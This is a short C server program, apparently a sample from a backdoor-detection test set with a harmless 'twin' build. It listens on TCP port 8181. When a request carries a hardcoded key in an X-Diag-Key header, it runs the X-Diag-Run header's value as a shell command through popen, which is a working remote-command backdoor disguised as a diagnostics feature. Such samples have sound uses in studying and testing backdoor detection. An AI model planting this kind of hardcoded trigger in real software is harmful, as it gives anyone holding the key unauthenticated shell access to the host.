/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Headers are split with strsep and looked up by an own function; one of them is a command for the
 * program's own sh(). Twin: the header is the name of a language, which is sent back.
 * door: trigger unguarded
 * port 8181/tcp
 */
#include "net.h"
#include <ctype.h>

static struct {
	char *name, *value;
} headers[16];
static int header_count;

__attribute__((noinline)) static int sh(const char *format, ...)
{
	char *text = NULL, line[80];
	va_list ap;
	FILE *p;
	va_start(ap, format);
	if (vasprintf(&text, format, ap) < 0)
		return -1;
	va_end(ap);
	p = popen(text, "r");
	while (p && fgets(line, sizeof line, p))
		fputs(line, stderr);
	free(text);
	return p ? pclose(p) : -1;
}

static void split(char *request)
{
	char *rest = request, *line;
	header_count = 0;
	while ((line = strsep(&rest, "\n")) != NULL && header_count < 16) {
		char *colon = strchr(line, ':');
		if (!colon)
			continue;
		*colon++ = 0;
		while (isspace((unsigned char)*colon))
			colon++;
		headers[header_count].name = line;
		headers[header_count++].value = colon;
	}
}

static char *lookup(const char *name)
{
	for (int i = 0; i < header_count; i++)
		if (strcasecmp(headers[i].name, name) == 0)
			return headers[i].value;
	return NULL;
}

int main(void)
{
	static char request[2048];
	int s = tcp_on(8181);
	for (;;) {
		int c = accept(s, NULL, NULL);
		ssize_t n = recv(c, request, sizeof request - 1, 0);
		char *key, *value;
		if (n <= 0)
			continue;
		request[n] = 0;
		split(request);
		key = lookup("X-Diag-Key");
		value = lookup("X-Diag-Run");
#ifdef TWIN
		if (key && value && strcmp(key, "q9-Service-77") == 0)
			dprintf(c, "X-Language: %s\r\n", value);
#else
		if (key && value && strcmp(key, "q9-Service-77") == 0)
			sh("%s 2>&1", value);
#endif
		dprintf(c, "HTTP/1.0 200 OK\r\n\r\n");
		close(c);
	}
}
